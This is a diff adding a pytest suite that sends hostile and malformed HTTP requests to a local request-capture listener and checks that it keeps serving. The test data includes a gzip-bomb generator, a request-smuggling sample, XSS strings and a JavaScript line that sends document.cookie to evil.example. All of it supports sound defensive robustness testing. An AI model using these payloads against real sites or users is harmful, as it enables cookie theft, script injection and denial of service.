@@ -1,0 +1,478 @@
+"""Hostile and malformed requests against the real listener (SPEC.md section 5, issue 7).
+
+Every request here is sent over a real socket to a :class:`Listener` on 127.0.0.1, most of
+them as raw bytes so that no client library tidies them up first. The rule being checked:
+whatever arrives is either captured exactly as sent or refused with a 4xx, the listener keeps
+serving other clients, and nothing a sender controls can make it (or the body views) use
+unbounded time or memory.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import time
+import tracemalloc
+import zlib
+from collections.abc import AsyncIterator
+
+import aiohttp
+import pytest
+
+from inspector.core.bodyview import INFLATE_CAP, decode_body, pretty_text
+from inspector.core.capture import TRUNCATED_KEEP
+from inspector.core.store import CaptureStore
+from inspector.net.listener import Listener
+
+MiB = 1024 * 1024
+
+
+async def send_raw(port: int, request: bytes, read_timeout: float = 5.0) -> bytes:
+    """Send ``request`` byte for byte on a fresh connection; return everything answered."""
+    reader, writer = await asyncio.open_connection("127.0.0.1", port)
+    try:
+        writer.write(request)
+        await writer.drain()
+        return await asyncio.wait_for(reader.read(), read_timeout)
+    finally:
+        writer.close()
+        await writer.wait_closed()
+
+
+def status_of(answer: bytes) -> int:
+    """The status code on an HTTP/1.x status line (0 when there was no answer)."""
+    parts = answer.split(b" ", 2)
+    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0
+
+
+async def assert_still_serving(listener: Listener) -> None:
+    """A well-formed request right after the hostile one is answered 200."""
+    timeout = aiohttp.ClientTimeout(total=5)
+    async with (
+        aiohttp.ClientSession(timeout=timeout) as s,
+        s.post(listener.url + "/after", data=b'{"ok":1}') as r,
+    ):
+        assert r.status == 200
+
+
+def gzip_bomb(inflated_size: int) -> bytes:
+    """A gzip stream of zeros inflating to ``inflated_size`` bytes, built without holding them."""
+    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
+    zeros = bytes(MiB)
+    parts = [comp.compress(zeros) for _ in range(inflated_size // MiB)]
+    parts.append(comp.flush())
+    return b"".join(parts)
+
+
+# -- invalid UTF-8 and NUL bytes ---------------------------------------------------------
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="aiohttp's C parser (llhttp) answers 400 'Invalid char in url path' to raw "
+    "non-ASCII bytes in the request target, before our handler runs: not captured",
+)
+async def test_hostile_invalid_utf8_in_path_is_captured(
+    listener: Listener, store: CaptureStore
+) -> None:
+    answer = await send_raw(
+        listener.port,
+        b"POST /caf\xff\xfe/x?q=\xc3\x28 HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n"
+        b"Connection: close\r\n\r\nhi",
+    )
+    assert status_of(answer) == 200
+    (c,) = store.list()
+    assert c.path.startswith("/caf")
+
+
+async def test_hostile_invalid_utf8_in_path_does_not_break_listener(
+    listener: Listener, store: CaptureStore
+) -> None:
+    answer = await send_raw(
+        listener.port,
+        b"GET /\xff\xfe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
+    )
+    assert 200 <= status_of(answer) < 500
+    await assert_still_serving(listener)
+
+
+async def test_hostile_percent_encoded_invalid_utf8_path_kept_raw(
+    listener: Listener, store: CaptureStore
+) -> None:
+    answer = await send_raw(
+        listener.port,
+        b"POST /%ff%fe%00/%zz?a=%c3%28&b=%00 HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n"
+        b"Connection: close\r\n\r\n",
+    )
+    assert status_of(answer) == 200
+    (c,) = store.list()
+    assert c.path == "/%ff%fe%00/%zz"
+    assert c.query == "a=%c3%28&b=%00"
+
+
+async def test_hostile_invalid_utf8_in_header_value_kept_as_latin1(
+    listener: Listener, store: CaptureStore
+) -> None:
+    answer = await send_raw(
+        listener.port,
+        b"POST /h HTTP/1.1\r\nHost: x\r\nX-Bad: a\xff\xfe\x80b\r\nX-Half: \xc3\r\n"
+        b"Content-Length: 2\r\nConnection: close\r\n\r\nhi",
+    )
+    assert status_of(answer) == 200
+    (c,) = store.list()
+    assert c.header("X-Bad") == b"a\xff\xfe\x80b".decode("latin-1")
+    assert c.header("X-Half") == "\xc3"
+    # Latin-1 maps one byte to one character: the bytes on the wire can be recovered.
+    assert (c.header("X-Bad") or "").encode("latin-1") == b"a\xff\xfe\x80b"
+
+
+async def test_hostile_invalid_utf8_body_is_byte_exact_and_viewable(
+    listener: Listener, store: CaptureStore
+) -> None:
+    body = b'{"name": "caf\xe9", "x": "\xc3\x28\xa0\xa1", "end": "\xf0\x28\x8c\x28"}'
+    async with (
+        aiohttp.ClientSession() as s,
+        s.post(listener.url + "/u", data=body, headers={"Content-Type": "application/json"}) as r,
+    ):
+        assert r.status == 200
+    full = store.get(store.list()[0].id)
+    assert full is not None and full.body == body
+    decoded = decode_body(full.body_bytes, full.headers)
+    assert decoded.text is None and not decoded.is_json
+    text, note = pretty_text(decoded)
+    assert "\ufffd" in text and "UTF-8" in note
+
+
+async def test_hostile_nul_bytes_in_body_are_kept(listener: Listener, store: CaptureStore) -> None:
+    body = b"\x00" * 10 + b'{"a":"\x00"}' + b"\x00"
+    answer = await send_raw(
+        listener.port,
+        b"POST /nul HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+        + f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode()
+        + body,
+    )
+    assert status_of(answer) == 200
+    full = store.get(store.list()[0].id)
+    assert full is not None and full.body == body
+    decode_body(full.body_bytes, full.headers)  # must not raise
+
+
+@pytest.mark.parametrize(
+    "request_bytes",
+    [
+        b"POST /a\x00b HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
+        b"POST /n HTTP/1.1\r\nHost: x\r\nX-Nul: a\x00b\r\nContent-Length: 0\r\n"
+        b"Connection: close\r\n\r\n",
+        b"POST /n HTTP/1.1\r\nHost: x\r\nX-\x00: v\r\nContent-Length: 0\r\n"
+        b"Connection: close\r\n\r\n",
+    ],
+    ids=["nul-in-path", "nul-in-header-value", "nul-in-header-name"],
+)
+async def test_hostile_nul_bytes_in_request_head_are_refused_cleanly(
+    listener: Listener, store: CaptureStore, request_bytes: bytes
+) -> None:
+    # RFC 9110 section 5.5 lets a recipient reject NUL in a field value; what matters here
+    # is a clean 4xx and a listener that keeps serving.
+    answer = await send_raw(listener.port, request_bytes)
+    assert 400 <= status_of(answer) < 500
+    await assert_still_serving(listener)
+
+
+# -- many and large headers --------------------------------------------------------------
+
+
+async def test_hostile_200_headers_all_captured_in_order(
+    listener: Listener, store: CaptureStore
+) -> None:
+    lines = b"".join(f"X-Many-{i:03d}: value {i}\r\n".encode() for i in range(200))
+    answer = await send_raw(
+        listener.port,
+        b"POST /many HTTP/1.1\r\nHost: x\r\n" + lines + b"Content-Length: 0\r\n"
+        b"Connection: close\r\n\r\n",
+    )
+    assert status_of(answer) == 200
+    (c,) = store.list()
+    many = [(k, v) for k, v in c.headers if k.startswith("X-Many-")]
+    assert many == [(f"X-Many-{i:03d}", f"value {i}") for i in range(200)]
+
+
+async def test_hostile_16k_header_value_captured_whole(
+    listener: Listener, store: CaptureStore
+) -> None:
+    value = ("0123456789abcdef" * 1024)[: 16 * 1024]
+    async with (
+        aiohttp.ClientSession() as s,
+        s.post(listener.url + "/big-header", headers={"X-Sixteen": value}, data=b"x") as r,
+    ):
+        assert r.status == 200
+    (c,) = store.list()
+    assert c.header("X-Sixteen") == value
+
+
+# -- compressed bodies -------------------------------------------------------------------
+
+
+async def test_hostile_gzip_bomb_stored_compressed_and_view_capped(
+    listener: Listener, store: CaptureStore
+) -> None:
+    inflated = 160 * MiB
+    wire = gzip_bomb(inflated)
+    assert len(wire) < 1024 * 1024  # fits the fixture's 1 MiB body limit
+    async with (
+        aiohttp.ClientSession() as s,
+        s.post(
+            listener.url + "/bomb",
+            data=wire,
+            headers={"Content-Encoding": "gzip", "Content-Type": "application/json"},
+        ) as r,
+    ):
+        assert r.status == 200
+    full = store.get(store.list()[0].id)
+    assert full is not None
+    assert full.body == wire and full.body_size == len(wire) and not full.truncated
+
+    tracemalloc.start()
+    try:
+        decoded = decode_body(full.body_bytes, full.headers)
+        text, _ = pretty_text(decoded)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert len(decoded.data) <= INFLATE_CAP
+    assert "only the start" in decoded.note
+    # Inflating in full would need 160 MiB; the cap keeps it to a bounded fraction.
+    assert peak < 100 * MiB, f"decoding the bomb peaked at {peak / MiB:.0f} MiB"
+    # Capped before display (line breaks may be added for the text widget).
+    assert len(text.replace("\n", "")) <= 2 * MiB
+
+
+async def test_hostile_deflate_body_with_garbage_is_shown_raw(
+    listener: Listener, store: CaptureStore
+) -> None:
+    wire = zlib.compress(b'{"ok": true}')[:-6] + b"\xde\xad\xbe\xef"
+    async with (
+        aiohttp.ClientSession() as s,
+        s.post(listener.url + "/def", data=wire, headers={"Content-Encoding": "deflate"}) as r,
+    ):
+        assert r.status == 200
+    full = store.get(store.list()[0].id)
+    assert full is not None and full.body == wire
+    decoded = decode_body(full.body_bytes, full.headers)
+    assert decoded.data  # shown (raw or partially decoded), never an exception
+
+
+# -- malformed framing -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "chunked_body",
+    [
+        b"zz\r\nhello\r\n0\r\n\r\n",  # chunk size is not hex
+        b"2\r\nhiXX3\r\nabc\r\n0\r\n\r\n",  # chunk data longer than announced
+        b"-1\r\nx\r\n0\r\n\r\n",  # negative size
+        b"ffffffffffffffffffff\r\nx\r\n0\r\n\r\n",  # size overflows 64 bits
+    ],
+    ids=["non-hex-size", "overlong-chunk", "negative-size", "overflowing-size"],
+)
+async def test_hostile_malformed_chunked_gets_4xx_and_listener_survives(
+    listener: Listener, store: CaptureStore, chunked_body: bytes
+) -> None:
+    answer = await send_raw(
+        listener.port,
+        b"POST /chunk HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
+        b"Connection: close\r\n\r\n" + chunked_body,
+    )
+    # Either refused by the parser, or (when the error surfaces mid-body) captured with a
+    # note; never a 5xx and never a hang.
+    status = status_of(answer)
+    assert 200 <= status < 500
+    for c in store.list(limit=0):
+        if c.path == "/chunk":
+            assert c.body_size >= 0
+    await assert_still_serving(listener)
+
+
+async def test_hostile_content_length_with_chunked_is_refused(
+    listener: Listener, store: CaptureStore
+) -> None:
+    # Request smuggling shape: both framings at once must not be guessed at.
+    answer = await send_raw(
+        listener.port,
+        b"POST /smuggle HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n"
+        b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n2\r\nhi\r\n0\r\n\r\n",
+    )
+    assert status_of(answer) == 400
+    await assert_still_serving(listener)
+
+
+async def test_hostile_client_hanging_up_mid_body_is_recorded(
+    listener: Listener, store: CaptureStore
+) -> None:
+    stored = asyncio.Event()
+    store.added.connect(lambda _captures: stored.set())
+    _reader, writer = await asyncio.open_connection("127.0.0.1", listener.port)
+    writer.write(b"POST /cut HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\nonly-part")
+    await writer.drain()
+    await asyncio.sleep(0.2)
+    writer.close()
+    await writer.wait_closed()
+    await asyncio.wait_for(stored.wait(), 5)
+    (c,) = store.list()
+    assert c.path == "/cut"
+    assert any("could not be read" in n for n in c.notes)
+    await assert_still_serving(listener)
+
+
+# -- slow clients ------------------------------------------------------------------------
+
+
+async def _trickle(port: int, data: bytes, delay: float) -> bytes:
+    """Send ``data`` one byte at a time, ``delay`` seconds apart; return the answer."""
+    reader, writer = await asyncio.open_connection("127.0.0.1", port)
+    try:
+        for i in range(len(data)):
+            writer.write(data[i : i + 1])
+            await writer.drain()
+            await asyncio.sleep(delay)
+        return await asyncio.wait_for(reader.read(), 10)
+    finally:
+        writer.close()
+        await writer.wait_closed()
+
+
+async def test_hostile_slow_clients_do_not_block_others(
+    listener: Listener, store: CaptureStore
+) -> None:
+    head = b"POST /slow HTTP/1.1\r\nHost: x\r\nContent-Length: 12\r\nConnection: close\r\n\r\n"
+    slow_request = head + b'{"slow":true}'[:12]
+    # 20 slow clients, each trickling a byte every 20 ms (about 1.7 s per request).
+    slow = [asyncio.ensure_future(_trickle(listener.port, slow_request, 0.02)) for _ in range(20)]
+    try:
+        await asyncio.sleep(0.2)  # they are all mid-request now
+        timeout = aiohttp.ClientTimeout(total=5)
+        async with aiohttp.ClientSession(timeout=timeout) as s:
+            for i in range(10):
+                started = time.monotonic()
+                async with s.post(listener.url + f"/fast{i}", data=b"{}") as r:
+                    assert r.status == 200
+                elapsed = time.monotonic() - started
+                assert elapsed < 1.0, f"a normal request took {elapsed:.2f} s behind slow ones"
+        assert not any(t.done() for t in slow), "the slow clients should still be sending"
+        answers = await asyncio.wait_for(asyncio.gather(*slow), 15)
+    finally:
+        for t in slow:
+            t.cancel()
+    assert all(status_of(a) == 200 for a in answers)
+    paths = [c.path for c in store.list(limit=0)]
+    assert paths.count("/slow") == 20
+    assert sum(p.startswith("/fast") for p in paths) == 10
+
+
+async def test_hostile_slow_chunked_body_does_not_block_others(
+    listener: Listener, store: CaptureStore
+) -> None:
+    async def slow_body() -> AsyncIterator[bytes]:
+        for i in range(15):
+            await asyncio.sleep(0.05)
+            yield f"part {i};".encode()
+
+    timeout = aiohttp.ClientTimeout(total=10)
+    async with aiohttp.ClientSession(timeout=timeout) as s:
+        slow = asyncio.ensure_future(s.post(listener.url + "/slow-chunked", data=slow_body()))
+        try:
+            await asyncio.sleep(0.1)
+            started = time.monotonic()
+            async with s.post(listener.url + "/quick", data=b"{}") as r:
+                assert r.status == 200
+            assert time.monotonic() - started < 1.0
+            resp = await slow
+            assert resp.status == 200
+            resp.release()
+        finally:
+            slow.cancel()
+    full = store.get(store.list(limit=1)[0].id)
+    assert full is not None and full.path == "/slow-chunked"
+    assert full.body == b"".join(f"part {i};".encode() for i in range(15))
+
+
+# -- the body limit ----------------------------------------------------------------------
+
+LIMIT = 4096
+
+
+@pytest.fixture
+async def small_listener(store: CaptureStore) -> AsyncIterator[Listener]:
+    lst = Listener(store, port=0, body_limit=LIMIT)
+    await lst.start()
+    yield lst
+    await lst.stop()
+
+
+@pytest.mark.parametrize("framing", ["content-length", "chunked"])
+async def test_hostile_body_exactly_at_limit_is_captured_whole(
+    small_listener: Listener, store: CaptureStore, framing: str
+) -> None:
+    body = bytes(i % 251 for i in range(LIMIT))
+    answer = await send_raw(small_listener.port, _request("/at", body, framing))
+    assert status_of(answer) == 200
+    full = store.get(store.list()[0].id)
+    assert full is not None
+    assert not full.truncated and full.body == body and full.body_size == LIMIT
+
+
+@pytest.mark.parametrize("framing", ["content-length", "chunked"])
+async def test_hostile_body_one_byte_over_limit_is_413_and_truncated(
+    small_listener: Listener, store: CaptureStore, framing: str
+) -> None:
+    body = bytes(i % 251 for i in range(LIMIT + 1))
+    answer = await send_raw(small_listener.port, _request("/over", body, framing))
+    assert status_of(answer) == 413
+    full = store.get(store.list()[0].id)
+    assert full is not None
+    assert full.truncated and full.body_size == LIMIT + 1
+    assert full.response is not None and full.response.status == 413
+    assert full.body_bytes == body[:TRUNCATED_KEEP]
+
+
+def _request(path: str, body: bytes, framing: str) -> bytes:
+    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n".encode()
+    if framing == "content-length":
+        return head + f"Content-Length: {len(body)}\r\n\r\n".encode() + body
+    # Two chunks, so the limit is crossed inside the second one.
+    half = len(body) // 2
+    chunks = b"".join(
+        f"{len(part):x}\r\n".encode() + part + b"\r\n" for part in (body[:half], body[half:])
+    )
+    return head + b"Transfer-Encoding: chunked\r\n\r\n" + chunks + b"0\r\n\r\n"
+
+
+# -- markup in bodies --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("content_type", "body"),
+    [
+        ("text/html", b"<html><body onload=alert(1)><script>alert('x')</script></body></html>"),
+        ("application/javascript", b"fetch('https://evil.example/'+document.cookie)"),
+        ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'),
+        ("application/json", b'{"html": "<img src=x onerror=alert(1)>"}'),
+    ],
+    ids=["html", "javascript", "svg", "json-with-markup"],
+)
+async def test_hostile_markup_bodies_are_stored_and_decoded_as_text(
+    listener: Listener, store: CaptureStore, content_type: str, body: bytes
+) -> None:
+    async with (
+        aiohttp.ClientSession() as s,
+        s.post(listener.url + "/markup", data=body, headers={"Content-Type": content_type}) as r,
+    ):
+        assert r.status == 200
+    full = store.get(store.list()[0].id)
+    assert full is not None and full.body == body
+    decoded = decode_body(full.body_bytes, full.headers)
+    text, _ = pretty_text(decoded)
+    # Shown verbatim as text (or as the JSON string value): no markup is interpreted away.
+    if decoded.is_json:
+        assert decoded.json_value == {"html": "<img src=x onerror=alert(1)>"}
+        assert "<img src=x onerror=alert(1)>" in text
+    else:
+        assert text == body.decode()
